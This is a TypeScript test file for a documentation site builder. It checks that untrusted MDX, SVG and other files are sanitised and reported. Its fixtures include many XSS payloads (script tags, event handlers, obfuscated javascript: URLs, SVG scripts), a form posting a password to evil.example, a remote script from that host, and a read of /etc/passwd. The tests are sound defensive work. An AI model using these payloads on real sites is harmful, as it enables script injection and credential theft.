// Untrusted sites: none of their code runs or is published, and every page still shows its text.

import { expect, test } from "vitest";
import { docsJson, testSite } from "./support/site.ts";

const page = (body: string): string => `---\ntitle: A\n---\n\n${body}\n`;

const open = (files: Readonly<Record<string, string | object>>) => testSite(files, { untrusted: true });

test("skips code with a problem at its location, while literals, variables and snippets work", async () => {
  globalThis.process.env["UNTRUSTED_RAN"] = "no";
  const run = "{(process.env.UNTRUSTED_RAN = 'yes')}";
  const site = open({
    "index.mdx": page(
      [
        'import { readFileSync } from "node:fs"\nimport Evil from "./evil.jsx"\nimport Hello from "/snippets/hello.mdx"\nexport const name = "Ada";\nexport const secret = readFileSync("/etc/passwd", "utf8");',
        `Before {name} ${run} {secret} after.`,
        '<Evil>Kept.</Evil>\n\n<Hello who="Bo" />\n\n<Card title={name + "!"}>Card.</Card>',
        "<Note>Shown.</Note>\n\nCall `/users/{id}` and {[1, 2].map((n) => n)}.",
      ].join("\n\n"),
    ),
    "evil.jsx": "export default () => { process.env.UNTRUSTED_RAN = 'yes'; }\n",
    "snippets/hello.mdx": `Hello {who}. ${run}\n`,
  });
  const body = await site.body();
  for (const text of ["Before Ada", "after.", "Kept.", "Hello Bo.", "Card.", "Shown."]) expect(body).toContain(text);
  expect(await site.page("/index.md")).toContain("Hello Bo.");
  expect((await site.problems()).map((line) => line.replace(/ is skipped.*/, ""))).toEqual([
    'index.mdx:5:1 untrusted/code `import "node:fs"`',
    'index.mdx:6:1 untrusted/code `import "./evil.jsx"`',
    "index.mdx:9:1 untrusted/code `export secret`",
    "index.mdx:11:15 untrusted/code `{(process.env.UNTRUSTED_RAN = 'yes')}`",
    'index.mdx:17:1 untrusted/code `{name + "!"}`',
    "index.mdx:21:24 untrusted/code `{[1, 2].map((n) => n)}`",
    "snippets/hello.mdx:1:14 untrusted/code `{(process.env.UNTRUSTED_RAN = 'yes')}`",
  ]);
  expect(process.env["UNTRUSTED_RAN"]).toBe("no");
  delete process.env["UNTRUSTED_RAN"];
});

test.each([
  ["<script>alert(1)</script>"],
  ['<img src="x.png" onError="alert(1)" />'],
  ['<img src="x.png" onerror="alert(1)" />'],
  ['<a href="javascript:alert(1)">x</a>'],
  ['<a href=" java\tscript:alert(1)">x</a>'],
  [`<a href="${" ".repeat(300)}javascript:alert(1)">x</a>`],
  ['<svg><a xlinkHref="javascript:alert(1)"><text>x</text></a></svg>'],
  ['<svg><set attributeName="href" to="javascript:alert(1)" /></svg>'],
  ['<iframe src="/files/x.html" />'],
  ['<iframe srcDoc="<script>alert(1)</script>" src="https://example.com/" />'],
  ['<object data="/x.html" />'],
  ['<embed src="/x.html" />'],
  ['<form action="https://evil.example/"><input name="password" /></form>'],
  ['<div dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }} />'],
  ['<button data-lectern-on=\'[["onClick","https://evil.example/x.js","default",{}]]\'>x</button>'],
  ['<button data-search="https://evil.example/x.js">x</button>'],
  ['<meta httpEquiv="refresh" content="0;url=https://evil.example/" />'],
  ['<link rel="stylesheet" href="https://evil.example/x.css" />'],
  ['<base href="https://evil.example/" />'],
  ["<lectern-island>x</lectern-island>"],
  ['<Card title="x" icon={<svg onload="alert(1)"><script>alert(1)</script></svg>}>y</Card>'],
  ['<Image src="x.png" onload="alert(1)" />'],
  ["<a href={<>javascript:alert(1)</>}>x</a>"],
  ['<a href="data:image/svg+xml,<svg/>">x</a>'],
  ['<svg><use href="data:image/svg+xml,<svg/>#a" /></svg>'],
])("reports %s and runs nothing in the browser", async (body) => {
  const site = open({ "index.mdx": page(`${body}\n\nAfter.`) });
  const html = await site.body();
  expect(html).toContain("After.");
  expect(html).not.toMatch(
    /<script|<object|<embed|<form|<meta|<base|<link|<iframe(?! src="https:)|<set|lectern-island|\son\w+=|javascript:|data-lectern-on|evil\.example|srcdoc/i,
  );
  expect((await site.problems()).join("\n")).toMatch(/index\.mdx:5:\d+ (?:untrusted|link|component)\//);
});

test("leaves ordinary HTML unchanged", async () => {
  const body =
    '<div className="mt-4" style={{ color: "red" }}>\n  <img src="https://example.com/a.png" alt="A" />\n  <iframe src="https://www.youtube.com/embed/x" title="V" allow="fullscreen" />\n</div>';
  const site = open({ "index.mdx": page(body) });
  const trusted = testSite({ "index.mdx": page(body) });
  expect(await site.body()).toBe(await trusted.body());
  expect(await site.problems()).toEqual([]);
});

test("rebuilds drawings, and refuses files that hosts could take for others", async () => {
  const html = "<!doctype html><script>alert(1)</script>";
  const files: Readonly<Record<string, string>> = {
    "images/plain.svg": `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><!-- a --><path d="M0 0"/></svg>`,
    "images/label.svg": `<svg xmlns="http://www.w3.org/2000/svg"><switch><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">A</p></foreignObject><text>A</text></switch></svg>`,
    "images/default.svg": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>`,
    "files/data.xml": `<a><!-- b --><c d="e"/></a>`,
    "files/shape.svg.png": "png",
    "files/notes.txt": "Write <html> first.",
    "index.html.gz": "gzip",
    "guide/index.html.br.zst.gz": "gzip",
    "assets/logo.svg.gz": "gzip",
    "files/a.html.toml": "text",
    "files/b.toml": html,
    "files/c.txt": "\ufeff \n<BODY onload=alert(1)>",
    ".well-known/page": html,
    "_lectern/search/manifest.json": "{}",
    "_LLMS/full/1.txt": "text",
    "_routes.json": "{}",
    "skill.md": html,
  };
  const links = Object.keys(files).map((path) => `[a](/${path})`);
  const site = open({ "index.mdx": page(links.join(" ")), ...files });
  const published = [...(await site.output.artifacts()).values()].flatMap(({ copies }) => copies ?? []);
  expect(published.sort()).toEqual([
    "files/data.xml",
    "files/notes.txt",
    "files/shape.svg.png",
    "images/label.svg",
    "images/plain.svg",
  ]);
  expect(await site.page("/skill.md")).toMatch(/^---\nname: acme\n/);
  expect(await site.page("/images/plain.svg")).toBe('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>');
  expect(await site.page("/images/label.svg")).toBe(
    '<svg xmlns="http://www.w3.org/2000/svg"><switch><text>A</text></switch></svg>',
  );
  expect(await site.page("/files/data.xml")).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<a><c d="e"/></a>\n');
  expect(
    (await site.problems())
      .filter((line) => line.includes("untrusted/"))
      .map((line) => line.replace(/^(\S+):1:1 .*?(?:--untrusted, |without )(.*?)[.:] .*/, "$1: $2")),
  ).toEqual([
    ".well-known/page: hosts could take it for HTML",
    "_LLMS/full/1.txt: the project cannot replace files of Lectern",
    "_lectern/search/manifest.json: the project cannot replace files of Lectern",
    "_routes.json: the project cannot set rules for the host",
    "assets/logo.svg.gz: hosts could take it for another kind of file",
    "files/a.html.toml: hosts could take it for another kind of file",
    "files/b.toml: hosts could take it for HTML",
    "files/c.txt: hosts could take it for HTML",
    "guide/index.html.br.zst.gz: hosts could take it for another kind of file",
    "images/default.svg: a doctype cannot declare entities or attributes",
    "images/label.svg: <foreignObject>",
    "index.html.gz: hosts could take it for another kind of file",
    "skill.md: hosts could take it for HTML",
  ]);
});

test("removes and reports scripts, host rules, active images and services", async () => {
  const svg = (inside: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
  const site = open({
    "docs.json": docsJson({ pages: ["index"] }, { integrations: { gtm: { tagId: "GTM-1" } }, thumbnails: {} }),
    "index.mdx": page("![](/images/ok.svg) ![](/images/bad.svg)"),
    "tracker.js": "alert(1)\n",
    _headers: "/*\n  X-A: b\n",
    "images/ok.svg": svg('<path d="M0 0"/>'),
    "images/bad.svg": svg("<script>alert(1)</script>"),
    "images/handler.svg": svg('<g onclick="alert(1)"/>'),
    "images/text.svg": svg("<text>&#169; &#x3c;script&#x3e;</text>"),
    "images/link.svg": svg('<a href="jav&#x61;script:alert(1)"/>'),
    "images/break.svg": svg('<a href="java&#0010;script:alert(1)"/>'),
    "images/entity.svg": `<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "">${svg('<a href="javascript&colon;alert(1)"/>')}`,
    "images/wide.svg": [...svg("<script>alert(1)</script>")].join("\u0000"),
    "images/escape.svg": svg("<scr\u001b(Bipt>alert(1)</scr\u001b(Bipt>"),
    "sitemap.xml": '<?xml-stylesheet type="text/xsl" href="#x"?><x/>',
    "files/data.xml": '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
  });
  const files = [...(await site.output.artifacts()).keys()];
  expect(files.filter((path) => /^(?:images|files)\/|tracker/.test(path))).toEqual([
    "images/ok.svg",
    "images/text.svg",
  ]);
  expect(await site.page("/_headers")).not.toContain("X-A");
  expect(await site.page("/")).not.toMatch(/tracker|googletagmanager|services-/);
  expect(
    (await site.problems()).filter((line) => line.includes("untrusted/")).map((line) => line.split(" ")[0]),
  ).toEqual([
    "_headers:1:1",
    "docs.json:12:3",
    "docs.json:17:3",
    "files/data.xml:1:1",
    "images/bad.svg:1:1",
    "images/break.svg:1:1",
    "images/entity.svg:1:1",
    "images/escape.svg:1:1",
    "images/handler.svg:1:1",
    "images/link.svg:1:1",
    "images/wide.svg:1:1",
    "sitemap.xml:1:1",
    "tracker.js:1:1",
  ]);
});
